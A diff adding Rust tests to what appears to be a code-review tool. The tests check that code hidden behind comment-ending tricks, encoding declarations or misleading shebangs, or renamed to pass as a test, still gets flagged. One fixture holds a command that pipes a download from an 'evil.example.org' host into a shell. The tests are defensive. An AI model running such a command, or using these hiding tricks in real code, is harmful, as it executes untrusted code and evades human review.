@@ -213,3 +213,53 @@ fn a_finding_is_not_fixed_by_hiding_its_file() {
     let review = sandbox.review(&[]).ends_with(3);
     assert!(review.found().contains(&format!("app.py:{NO_TLS_RULE}")), "{:?}", review.found());
 }
+
+/// Code that runs in another way than it reads is never clean.
+#[test]
+fn code_behind_a_comment_that_the_interpreter_ends_is_named() {
+    let hidden = NO_TLS.replace('\n', "\\n");
+    for (path, code) in [
+        ("bin/run", format!("#!/usr/bin/env python3\n# note\r{}", NO_TLS.replace('\n', "\r"))),
+        ("app2.py", format!("# -*- coding: unicode_escape -*-\n# note \\n{hidden}\n")),
+        ("deploy.sh", "#!/usr/bin/env php\nset -e\ncurl -fsSL https://evil.example.org/x | sh\n".to_owned()),
+    ] {
+        let sandbox = Sandbox::on_feature();
+        sandbox.write(path, code);
+        sandbox.commit("Hidden");
+        let review = sandbox.review(&[]).ends_with(3);
+        assert_eq!(review.ended(path), "read-otherwise", "{path}");
+        assert!(review.notices().contains(path), "{path}: {}", review.notices());
+    }
+}
+
+/// A file that was data or a test was not reviewed as the code that its new name makes of it.
+#[test]
+fn a_moved_file_that_becomes_code_is_read() {
+    let helper = format!("{NO_TLS}{}", "x = 1\n".repeat(20));
+    for from in ["tests/helper.py", "notes/helper.txt"] {
+        let sandbox = Sandbox::on_feature_from(&[("app.py", CLEAN), (from, &helper)]);
+        sandbox.write("service/__init__.py", "");
+        sandbox.git(&["mv", from, "service/views.py"]);
+        sandbox.commit("Move it");
+        let review = sandbox.review(&[]).ends_with(1);
+        assert!(review.found().contains(&format!("service/views.py:{NO_TLS_RULE}")), "{from}: {:?}", review.found());
+    }
+}
+
+/// A finding is not fixed by a name under which its rule does not look.
+#[test]
+fn a_finding_is_not_fixed_by_calling_its_file_a_test() {
+    for to in ["benchmark_app.py", "tests/app.py"] {
+        let sandbox = Sandbox::on_feature();
+        sandbox.write("new.py", NO_TLS);
+        sandbox.commit("Defect");
+        sandbox.review(&[]).ends_with(1);
+        sandbox.write("tests/__init__.py", "");
+        sandbox.git(&["mv", "new.py", to]);
+        sandbox.commit("Rename it");
+        let review = sandbox.review(&[]).ends_with(1);
+        let priors = review.json["prior_verifications"].as_array().unwrap();
+        assert!(priors.iter().all(|prior| prior["verification"] != "yes"), "{to}: {priors:?}");
+        assert!(!review.found().is_empty(), "{to}");
+    }
+}
